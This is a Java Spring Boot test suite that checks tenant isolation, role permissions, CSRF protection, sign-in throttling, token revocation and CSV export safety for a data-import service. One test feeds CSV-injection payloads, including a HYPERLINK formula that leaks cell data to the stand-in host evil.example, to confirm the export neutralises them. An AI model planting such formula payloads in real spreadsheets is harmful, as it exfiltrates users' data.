package intake.security;

import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.http.HttpMethod;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

import intake.security.EndpointTable.Call;
import intake.support.Http;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Tenant isolation and roles for every endpoint the service serves, found in Spring's
 * handler mappings (so endpoints added later are covered without a change here, or fail
 * the suite until {@link EndpointTable} knows how to call them). Tenant A gets data of
 * every kind; tenant B's administrator then reads, changes, undoes and streams it and
 * must get 404 for every path naming it, see none of it in lists and leave it unchanged.
 * Each role of tenant A gets 403 exactly where {@link AccessRules} denies it. Subclasses
 * run it on H2 and on PostgreSQL; every test makes tenants and users of its own.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
abstract class IsolationContract {

	/**
	 * Fields that change when their owner merely signs in or calls (the snapshot of
	 * tenant A is taken through tenant A's own calls); none of them is tenant data.
	 */
	private static final Set<String> VOLATILE = Set.of("lastUsedAt", "lastSignInAt", "lastLoginAt", "lastSeenAt");

	/** Paths whose answer grows with every call of tenant A itself (its audit trail). */
	private static final String AUDIT = "/api/v1/audit/**";

	@LocalServerPort
	int port;

	@Autowired
	ApplicationContext context;

	@Autowired
	Tenants tenants;

	@Autowired
	UserAccounts accounts;

	@Autowired
	ApiTokens tokens;

	Http http;

	@BeforeEach
	void client() {
		this.http = new Http(this.port);
	}

	TenantFixtures tenantWithData() {
		return TenantFixtures.withData(this.tenants, this.accounts, this.tokens, this.http);
	}

	TenantFixtures emptyTenant() {
		return TenantFixtures.empty(this.tenants, this.accounts, this.tokens, this.http);
	}

	@Test
	void theTablesCanCallEveryEndpointTheServiceServes() {
		TenantFixtures a = tenantWithData();
		List<Endpoints.Endpoint> endpoints = Endpoints.of(this.context);
		assertThat(endpoints).extracting(Endpoints.Endpoint::pattern)
			.as("the suite must see the application's endpoints")
			.contains("/api/v1/imports/{id}/events", "/api/v1/records/{entity}/{id}", "/login");
		List<String> uncovered = new ArrayList<>();
		for (Endpoints.Endpoint endpoint : endpoints) {
			try {
				EndpointTable.calls(endpoint, a.refsFor(Role.ADMIN));
			}
			catch (IllegalStateException ex) {
				uncovered.add(ex.getMessage());
			}
		}
		assertThat(uncovered).as("endpoints the isolation suite cannot call").isEmpty();
	}

	@Test
	void anonymousCallsGet401JsonOnTheApiAndTheSignInPageElsewhere() {
		TenantFixtures a = tenantWithData();
		Http anonymous = this.http.anonymous();
		SoftAssertions softly = new SoftAssertions();
		for (Call call : calls(a.refsFor(Role.ADMIN))) {
			Http.Response response = send(anonymous, call);
			if (Access.open(call.path()) || Access.publicPage(call.path())) {
				softly.assertThat(response.status()).as(call + " is open to anyone").isNotIn(401, 403);
			}
			else if (Access.api(call.path())) {
				softly.assertThat(response.status()).as(call + ": " + response.body()).isEqualTo(401);
				softly.assertThat(response.contentType()).as(call.toString()).startsWith("application/json");
				softly.assertThat(response.body()).as(call.toString()).contains("\"UNAUTHENTICATED\"");
				softly.assertThat(response.header("WWW-Authenticate")).as(call.toString()).startsWith("Basic");
			}
			else if (call.method() == HttpMethod.GET) {
				softly.assertThat(response.status()).as(call + ": " + response.body()).isEqualTo(302);
				softly.assertThat(response.header("Location")).as(call.toString()).endsWith("/login");
			}
			else {
				// A page's form post without a session has no CSRF token either.
				softly.assertThat(response.status()).as(call + ": " + response.body()).isIn(302, 403);
			}
		}
		softly.assertAll();
		unchanged(a, snapshot(a));
	}

	@Test
	void anotherTenantsAdministratorGets404ForEveryPathNamingTheTenantsDataSeesNoneOfItAndChangesNothing() {
		TenantFixtures a = tenantWithData();
		Map<String, String> before = snapshot(a);
		TenantFixtures b = emptyTenant();
		Http api = b.as(Role.ADMIN);
		Http browser = b.browser(Role.ADMIN);
		Map<String, String> people = people(a);
		SoftAssertions softly = new SoftAssertions();
		List<Call> calls = calls(a.refsFor(Role.ADMIN));
		for (Call call : calls) {
			Http client = Access.api(call.path()) ? api : browser;
			Http.Response response = send(client, call);
			if (call.tenantData()) {
				softly.assertThat(response.status()).as(call + ": " + response.body()).isEqualTo(404);
				if (Access.api(call.path())) {
					softly.assertThat(response.body()).as(call.toString()).contains("\"NOT_FOUND\"");
				}
				else {
					// The page rendered again lists tenant B's users and tokens (some of
					// them named with tenant A's tag by the writes before), none of A's.
					for (TenantFixtures.Member member : a.people()) {
						softly.assertThat(response.body())
							.as(call + " shows tenant A's user")
							.doesNotContain(member.username());
					}
				}
				if (!call.endpoint().reads()) {
					// After every call: a disable followed by an enable would hide both.
					// Each change is reported once, by the call that made it.
					Map<String, String> now = people(a);
					softly.assertThat(now).as(call + " changed tenant A's users or tokens").isEqualTo(people);
					people = now;
				}
			}
			else if (call.endpoint().reads()) {
				softly.assertThat(response.status()).as(call + ": " + response.body()).isLessThan(400);
				softly.assertThat(response.body()).as(call + " shows tenant A's data").doesNotContain(a.tag);
				for (String job : a.refs.jobs()) {
					softly.assertThat(response.body()).as(call + " shows tenant A's import").doesNotContain(job);
				}
				String entity = call.variables().get("entity");
				if (entity != null && response.status() == 200 && Access.api(call.path())) {
					softly.assertThat(ids(response.json()))
						.as(call + " lists tenant A's record")
						.doesNotContain(a.refs.record(entity));
				}
				else if (entity != null && response.status() == 200) {
					softly.assertThat(response.body())
						.as(call + " links tenant A's record")
						.doesNotContain("/records/" + entity + "/" + a.refs.record(entity) + "\"");
				}
			}
			else if (call.bodyNamesTenantData()) {
				Http.Response madeUp = send(client,
						new Call(call.endpoint(), call.path(), call.variables(), false, call.madeUp(), call.madeUp()));
				softly.assertThat(response.status())
					.as(call + " naming tenant A's data answers as for a made-up id: " + response.body() + " vs "
							+ madeUp.body())
					.isEqualTo(madeUp.status())
					.isGreaterThanOrEqualTo(400);
				softly.assertThat(error(response)).as(call.toString()).isEqualTo(error(madeUp));
			}
			else {
				softly.assertThat(response.status())
					.as(call + " in tenant B, whatever tenant A holds: " + response.body())
					.isLessThan(400);
			}
		}
		softly.assertAll();
		unchanged(a, before);
	}

	@ParameterizedTest
	@EnumSource(Role.class)
	void eachRoleGets403ExactlyWhereTheAccessRulesDenyIt(Role role) {
		TenantFixtures a = tenantWithData();
		Http api = a.as(role);
		Http browser = a.browser(role);
		SoftAssertions softly = new SoftAssertions();
		for (Call call : calls(a.refsFor(role))) {
			boolean isApi = Access.api(call.path());
			Http.Response response = send(isApi ? api : browser, call);
			if (Access.allowed(call.method(), call.path()).contains(role)) {
				softly.assertThat(response.status())
					.as(role + " may " + call + ": " + response.body())
					.isNotIn(401, 403);
			}
			else {
				softly.assertThat(response.status())
					.as(role + " may not " + call + ": " + response.body())
					.isEqualTo(403);
				if (isApi) {
					softly.assertThat(response.body()).as(call.toString()).contains("\"FORBIDDEN\"");
				}
			}
		}
		softly.assertAll();
	}

	@Test
	void theTablesPageFormsDoWhatTheySayForTheTenantsOwnAdministrator() {
		// So that another tenant's 404 above is a refusal, not a form the page rejects.
		TenantFixtures a = emptyTenant();
		Http browser = a.browser(Role.ADMIN);
		List<Call> forms = Endpoints.of(this.context)
			.stream()
			.filter((endpoint) -> !endpoint.api() && !endpoint.reads() && endpoint.pattern().startsWith("/admin/"))
			.flatMap((endpoint) -> EndpointTable.calls(endpoint, a.refsFor(Role.ADMIN)).stream())
			.toList();
		assertThat(forms).extracting(Call::toString)
			.anyMatch((call) -> call.contains("/admin/users/" + a.spare.id() + "/role"))
			.anyMatch((call) -> call.contains("/admin/tokens/" + a.members.get(Role.ADMIN).tokenId() + "/revoke"));
		for (Call call : forms) {
			Http.Response response = send(browser, call);
			assertThat(response.status()).as(call + ": " + response.body()).isIn(200, 302);
			assertThat(response.body()).as(call.toString()).doesNotContain("id=\"failure\"");
		}
		Http admin = a.as(Role.ADMIN);
		JsonNode spare = admin.get("/api/v1/users/" + a.spare.id()).json();
		assertThat(spare.get("role").asString()).isEqualTo("IMPORTER");
		assertThat(spare.get("disabled").asBoolean()).isFalse();
		assertThat(admin.get("/api/v1/users").body()).contains("\"" + a.tag + "-page\"");
		JsonNode tokens = admin.get("/api/v1/tokens").json();
		List<String> revoked = new ArrayList<>();
		List<String> names = new ArrayList<>();
		tokens.get("items").forEach((token) -> {
			names.add(token.get("name").asString());
			if (token.get("revoked").asBoolean()) {
				revoked.add(token.get("id").asString());
			}
		});
		assertThat(revoked).containsExactly(Long.toString(a.members.get(Role.ADMIN).tokenId()));
		assertThat(names).contains("Skript " + a.tag);
	}

	@Test
	void theEventsOfAnotherTenantsImportAnswer404AndItsOwnUsersGetTheStream() {
		TenantFixtures a = tenantWithData();
		Http stranger = emptyTenant().as(Role.ADMIN);
		for (String job : a.refs.jobs()) {
			Http.Response refused = stranger.events("/api/v1/imports/" + job + "/events");
			assertThat(refused.status()).as(refused.body()).isEqualTo(404);
			assertThat(refused.contentType()).startsWith("application/json");
			assertThat(refused.body()).contains("\"NOT_FOUND\"").doesNotContain(a.tag);
			Http.Response stream = a.as(Role.VIEWER).events("/api/v1/imports/" + job + "/events");
			assertThat(stream.status()).as(stream.body()).isEqualTo(200);
			assertThat(stream.contentType()).startsWith("text/event-stream");
			assertThat(stream.body()).contains("event:job", job);
		}
	}

	@Test
	void filtersAndBodiesNamingAnotherTenantsDataFindNothing() {
		TenantFixtures a = tenantWithData();
		TenantFixtures b = emptyTenant();
		Http stranger = b.as(Role.ADMIN);
		String job = a.refs.job();
		for (String entity : EndpointTable.entities()) {
			JsonNode ofJob = stranger.get("/api/v1/records/" + entity + "?importJobId=" + job).json();
			assertThat(ofJob.get("total").asLong()).as(entity + " of tenant A's import").isZero();
			JsonNode byId = stranger.get("/api/v1/records/" + entity + "?id=" + a.refs.record(entity)).json();
			assertThat(byId.get("total").asLong()).as(entity + " by tenant A's id").isZero();
		}
		JsonNode contacts = stranger.get("/api/v1/records/contacts?companyId=" + a.refs.record("companies")).json();
		assertThat(contacts.get("total").asLong()).isZero();

		// Tenant B's own import, mapped with tenant A's named mapping: not found.
		String own = TenantFixtures.upload(stranger, "Företagsnamn;Ort\r\nEget;Visby\r\n");
		Http.Response applied = stranger.put("/api/v1/imports/" + own + "/mapping",
				"{\"mapping\": \"" + a.refs.mapping() + "\"}");
		Http.Response madeUp = stranger.put("/api/v1/imports/" + own + "/mapping",
				"{\"mapping\": \"" + Refs.NOWHERE + "\"}");
		assertThat(applied.status()).as(applied.body()).isEqualTo(madeUp.status()).isEqualTo(404);
		// Tenant B's own contact, moved to tenant A's company: refused as for a made-up
		// id.
		String company = stranger.post("/api/v1/records/companies", "{\"CompanyName\": \"Eget " + b.tag + "\"}")
			.json()
			.get("id")
			.asString();
		String contact = stranger
			.post("/api/v1/records/contacts", "{\"ContactFirstName\": \"Per\", \"companyId\": \"" + company + "\"}")
			.json()
			.get("id")
			.asString();
		Http.Response moved = stranger.patch("/api/v1/records/contacts/" + contact,
				"{\"companyId\": \"" + a.refs.record("companies") + "\"}");
		Http.Response movedNowhere = stranger.patch("/api/v1/records/contacts/" + contact,
				"{\"companyId\": \"" + Refs.NOWHERE + "\"}");
		assertThat(moved.status()).as(moved.body()).isEqualTo(movedNowhere.status()).isGreaterThanOrEqualTo(400);
		assertThat(error(moved)).isEqualTo(error(movedNowhere));
		assertThat(stranger.get("/api/v1/records/contacts/" + contact).json().get("companyId").asString())
			.isEqualTo(company);
	}

	@Test
	void formPostsWithoutTheCsrfTokenAreRefused() {
		// With data: the record pages' forms name a record of each entity.
		TenantFixtures a = tenantWithData();
		String username = a.members.get(Role.ADMIN).username();
		Http fresh = this.http.browser();
		fresh.get("/login");
		Http.Response login = fresh.form("/login", Map.of("username", username, "password", TenantFixtures.PASSWORD));
		assertThat(login.status()).as(login.body()).isEqualTo(403);
		assertThat(fresh.get("/").status()).as("not signed in").isEqualTo(302);

		Http browser = a.browser(Role.ADMIN);
		Http.Response logout = browser.form("/logout", Map.of());
		assertThat(logout.status()).isEqualTo(403);
		assertThat(browser.get("/").status()).as("still signed in").isEqualTo(200);
		for (Endpoints.Endpoint endpoint : Endpoints.of(this.context)) {
			if (endpoint.api() || endpoint.reads()) {
				continue;
			}
			for (Call call : EndpointTable.calls(endpoint, a.refsFor(Role.ADMIN))) {
				Map<String, String> fields = (call.body() instanceof EndpointTable.Form form) ? form.fields()
						: Map.of();
				Http.Response refused = browser.form(call.path(), fields);
				assertThat(refused.status()).as(call + " without a CSRF token: " + refused.body()).isEqualTo(403);
			}
		}
		assertThat(browser.get("/").status()).as("still signed in").isEqualTo(200);
	}

	@Test
	void errorsCsvNeutralisesFormulasButKeepsNumbersAndPhoneNumbersAsWritten() throws Exception {
		Http admin = emptyTenant().as(Role.ADMIN);
		// Cell → as errors.csv must show it. Every row lacks the required company name.
		Map<String, String> cells = new LinkedHashMap<>();
		cells.put("=HYPERLINK(\"http://evil.example/?q=\"&A1;\"Klicka\")",
				"'=HYPERLINK(\"http://evil.example/?q=\"&A1;\"Klicka\")");
		cells.put("+1+1", "'+1+1");
		cells.put("-2+3", "'-2+3");
		cells.put("@SUM(1)", "'@SUM(1)");
		cells.put("\t=1+2", "'\t=1+2");
		cells.put("\r=1+2", "'\r=1+2");
		cells.put("-12,50", "-12,50");
		cells.put("+46 8 123 45 67", "+46 8 123 45 67");
		// A plain number (API.md: "unless it is a plain number or phone number").
		cells.put("-2", "-2");
		StringBuilder csv = new StringBuilder("Företagsnamn;Ort;Xyzzy\r\n");
		cells.keySet().forEach((cell) -> csv.append(";Umeå;\"").append(cell.replace("\"", "\"\"")).append("\"\r\n"));
		csv.append("Bolag;Umeå;ok\r\n");
		String job = TenantFixtures.run(admin, TenantFixtures.upload(admin, csv.toString()));

		Http.Response errors = admin.get("/api/v1/imports/" + job + "/errors.csv");
		assertThat(errors.status()).as(errors.body()).isEqualTo(200);
		assertThat(errors.body()).startsWith("\uFEFF");
		// Compared as written: a CSV reader would hide what the cell starts with.
		List<String> shown = java.util.Arrays.stream(errors.body().split("\r\n"))
			.skip(1)
			.map((line) -> line.substring(line.indexOf(";Umeå;") + 6))
			.toList();
		List<String> expected = cells.values().stream().map(IsolationContract::csvCell).toList();
		assertThat(String.join("\n", shown)).isEqualTo(String.join("\n", expected));
	}

	@Test
	void theSixthBadBasicSignInOfAUserWithinTheWindowGets429WithRetryAfter() {
		// A user of its own: the throttle counts per username and address, so no other
		// test's sign-ins meet these.
		String username = emptyTenant().members.get(Role.VIEWER).username();
		for (int i = 0; i < 5; i++) {
			Http.Response failed = this.http.as(username, "wrong " + i).get("/api/v1/imports");
			assertThat(failed.status()).as(failed.body()).isEqualTo(401);
		}
		Http.Response throttled = this.http.as(username, "wrong again").get("/api/v1/imports");
		assertThat(throttled.status()).as(throttled.body()).isEqualTo(429);
		assertThat(throttled.body()).contains("\"TOO_MANY_REQUESTS\"");
		assertThat(Long.parseLong(throttled.header("Retry-After"))).isBetween(1L, 300L);
		assertThat(this.http.as(username, TenantFixtures.PASSWORD).get("/api/v1/imports").status())
			.as("the right password is not even checked")
			.isEqualTo(429);
	}

	@Test
	void aRevokedTokenGets401EverywhereAtOnce() {
		TenantFixtures a = tenantWithData();
		TenantFixtures.Member importer = a.members.get(Role.IMPORTER);
		Http client = this.http.withToken(importer.token());
		String job = "/api/v1/imports/" + a.refs.job();
		assertThat(client.get(job).status()).isEqualTo(200);
		assertThat(this.tokens.revoke(a.tenantId, importer.tokenId())).isTrue();
		for (Http.Response response : List.of(client.get(job), client.get(job + "/errors.csv"),
				client.events(job + "/events"), client.post(job + "/undo", null),
				client.get("/api/v1/records/companies"))) {
			assertThat(response.status()).as(response.body()).isEqualTo(401);
			assertThat(response.body()).contains("\"UNAUTHENTICATED\"");
		}
		assertThat(a.as(Role.IMPORTER).get(job).status()).as("the user still signs in with a password").isEqualTo(200);
	}

	/**
	 * Every call of every endpoint with the fixtures: reads first (lists are checked
	 * before a write adds anything), then writes, deletions last.
	 */
	List<Call> calls(Refs refs) {
		List<Call> calls = new ArrayList<>();
		for (Endpoints.Endpoint endpoint : Endpoints.of(this.context)) {
			calls.addAll(EndpointTable.calls(endpoint, refs));
		}
		calls.sort(Comparator.comparingInt(IsolationContract::order));
		return calls;
	}

	private static int order(Call call) {
		if (call.endpoint().reads()) {
			return 0;
		}
		return (call.method() == HttpMethod.DELETE) ? 2 : 1;
	}

	/**
	 * Sends a call; a form through a signed-in browser carries the session's CSRF token.
	 */
	static Http.Response send(Http client, Call call) {
		if (call.endpoint().streams()) {
			return client.events(call.path());
		}
		EndpointTable.Body body = call.body();
		String path = call.path();
		return switch (call.method().name()) {
			case "GET" -> client.get(path);
			case "DELETE" -> client.delete(path);
			case "POST" -> {
				if (body instanceof EndpointTable.Multipart multipart) {
					Map<String, String> fields = Access.api(path) ? multipart.fields()
							: withCsrf(client, multipart.fields());
					yield client.upload(path, fields, multipart.fileName(), multipart.file());
				}
				if (body instanceof EndpointTable.Form form) {
					yield client.form(path, withCsrf(client, form.fields()));
				}
				yield client.post(path, (body instanceof EndpointTable.Json json) ? json.json() : null);
			}
			case "PUT" -> client.put(path, (body instanceof EndpointTable.Json json) ? json.json() : "");
			case "PATCH" -> client.patch(path, (body instanceof EndpointTable.Json json) ? json.json() : "");
			default -> throw new IllegalStateException("The suite cannot send " + call);
		};
	}

	/**
	 * The fields of a page's form with the session's CSRF token added; a client without a
	 * session (anonymous) has no page and no token.
	 */
	private static Map<String, String> withCsrf(Http client, Map<String, String> fields) {
		Map<String, String> all = new LinkedHashMap<>(fields);
		java.util.regex.Matcher csrf = java.util.regex.Pattern.compile("name=\"_csrf\" value=\"([^\"]+)\"")
			.matcher(client.get("/").body());
		if (csrf.find()) {
			all.put("_csrf", csrf.group(1));
		}
		return all;
	}

	/**
	 * What tenant A's administrator reads on every API path that is not a stream or the
	 * audit trail: path to status and body (JSON without {@link #VOLATILE} fields).
	 */
	Map<String, String> snapshot(TenantFixtures a) {
		Http admin = a.as(Role.ADMIN);
		Map<String, String> snapshot = new LinkedHashMap<>();
		for (Call call : calls(a.refsFor(Role.ADMIN))) {
			if (call.endpoint().reads() && Access.api(call.path()) && !call.endpoint().streams()
					&& !Access.matches(AUDIT, call.path()) && call.path().startsWith("/api/")) {
				Http.Response response = admin.get(call.path());
				String body = response.contentType().startsWith("application/json") ? stable(response.json())
						: response.contentType().startsWith("text/") ? response.body() : binary(response);
				snapshot.put(call.path(), response.status() + " " + body);
			}
		}
		snapshot.putAll(people(a));
		assertThat(snapshot).as("tenant A's data as it reads it").isNotEmpty();
		return snapshot;
	}

	/**
	 * A binary answer (template.xlsx) by type and length: a zip carries the time each of
	 * its entries was written.
	 */
	private static String binary(Http.Response response) {
		return response.contentType() + ", " + response.header("Content-Length") + " bytes";
	}

	/**
	 * Tenant A's users and every one of its tokens, as its administrator reads them (JSON
	 * without {@link #VOLATILE} fields).
	 */
	Map<String, String> people(TenantFixtures a) {
		Http admin = a.as(Role.ADMIN);
		Map<String, String> people = new LinkedHashMap<>();
		for (String path : List.of("/api/v1/users", "/api/v1/tokens?all=true")) {
			Http.Response response = admin.get(path);
			assertThat(response.status()).as(path + ": " + response.body()).isEqualTo(200);
			people.put(path, stable(response.json()));
		}
		return people;
	}

	void unchanged(TenantFixtures a, Map<String, String> before) {
		Map<String, String> after = snapshot(a);
		Map<String, String> changed = new HashMap<>();
		before.forEach((path, answer) -> {
			if (!answer.equals(after.get(path))) {
				changed.put(path, answer + "\n  now: " + after.get(path));
			}
		});
		assertThat(changed).as("tenant A's data changed").isEmpty();
	}

	private static String stable(JsonNode json) {
		if (json instanceof ObjectNode object) {
			VOLATILE.forEach(object::remove);
			object.properties().forEach((entry) -> stable(entry.getValue()));
		}
		else if (json.isArray()) {
			json.forEach(IsolationContract::stable);
		}
		return json.toString();
	}

	static List<String> ids(JsonNode page) {
		List<String> ids = new ArrayList<>();
		JsonNode items = page.get("items");
		if (items != null) {
			items.forEach((item) -> ids.add(item.path("id").asString("")));
		}
		return ids;
	}

	/** A cell as a CSV file with {@code ;} writes it. */
	static String csvCell(String cell) {
		boolean quote = cell.contains(";") || cell.contains("\"") || cell.contains("\r") || cell.contains("\n");
		return quote ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell;
	}

	static String error(Http.Response response) {
		return response.contentType().startsWith("application/json") ? response.json().path("error").asString("") : "";
	}

}
